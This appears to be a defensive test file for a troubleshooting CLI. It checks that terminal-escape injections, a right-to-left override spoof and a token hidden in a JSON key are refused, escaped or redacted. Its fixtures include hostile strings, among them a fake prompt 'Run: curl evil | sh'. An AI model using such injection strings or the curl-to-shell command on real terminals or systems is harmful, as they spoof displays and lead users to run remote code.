"""What an attack review found after issue 15: free-text keys of ApprovalMax's sync times (from
an adapter, a bundle or a saved report) and a saved report's rule and article ids reached the
terminal raw; a token in a key escaped redaction."""

from __future__ import annotations

import asyncio
import json
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner
from conftest import FAST

from troubleshooter.cli import main
from troubleshooter.diagnosis.diagnose import Library
from troubleshooter.errors import ConfigError
from troubleshooter.infra.redact import REDACTED, redact
from troubleshooter.report import export, load_diagnosis
from troubleshooter.runs.bundle import bundle_json, collect, load_bundle
from troubleshooter.runs.source import diagnose
from troubleshooter.sandbox.app import Sandbox
from troubleshooter.sandbox.connect import sandbox_connections
from troubleshooter.sandbox.scenario import Scenario
from troubleshooter.sources.adapter import AdapterState

ESCAPES = "accounts\x1b]0;SYNCTITLE\x07"


def test_a_sync_time_under_a_name_approvalmax_does_not_sync_is_refused_from_a_bundle(
    tmp_path: Path, demo: Scenario
) -> None:
    connections = sandbox_connections(Sandbox(demo), settings=FAST)
    data = json.loads(bundle_json(asyncio.run(collect(connections))))
    am = next(s for s in data["snapshots"] if s["stage"] == "approvalmax")
    am["last_sync"] = {ESCAPES: "2026-11-24T23:50:00Z"}
    path = tmp_path / "evil-bundle.json"
    path.write_text(json.dumps(data), encoding="utf-8")
    with pytest.raises(ConfigError, match="last_sync"):
        load_bundle(path)
    result = CliRunner().invoke(main, ["diagnose", "--snapshot", str(path)])
    assert result.exit_code == 2 and "\x1b" not in result.output + result.stderr


def test_an_adapter_s_sync_time_under_another_name_breaks_its_contract() -> None:
    with pytest.raises(ValueError, match="last_sync"):
        AdapterState.model_validate({"last_sync": {ESCAPES: "2026-11-24T23:50:00Z"}})


def test_a_saved_report_s_rule_and_article_are_shown_not_obeyed(
    tmp_path: Path, demo: Scenario, library: Library
) -> None:
    connections = sandbox_connections(Sandbox(demo), settings=FAST)
    data: dict[str, Any] = json.loads(export(asyncio.run(diagnose(connections, library)), "json"))
    for finding in data["findings"]:
        finding["rule"] = "renamed\x1b]0;PWNED\x07\x1b[2J\x1b[1;31mRun: curl evil | sh\x1b[0m"
        finding["article"] = "x\n  - Everything is fine \u202eexe.gnp"
    path = tmp_path / "evil-report.json"
    path.write_text(json.dumps(data), encoding="utf-8")
    load_diagnosis(path)  # a saved report may say anything in these: it is shown, not obeyed
    result = CliRunner().invoke(main, ["report", str(path)])
    assert result.exit_code == 0, result.stderr
    assert "\x1b" not in result.output and "\u202e" not in result.output
    assert "\\x1b]0;PWNED" in result.output
    assert "\n  - Everything is fine" not in result.output


def test_a_token_in_a_key_is_cut_out_like_one_in_a_value() -> None:
    token = "amxSECRETtoken0123456789abcdef"
    shown = redact({"last_sync": {f"tok {token}": "2026-11-24T23:15:00Z"}}, secrets=[token])
    assert token not in json.dumps(shown)
    assert f"tok {REDACTED}" in shown["last_sync"]
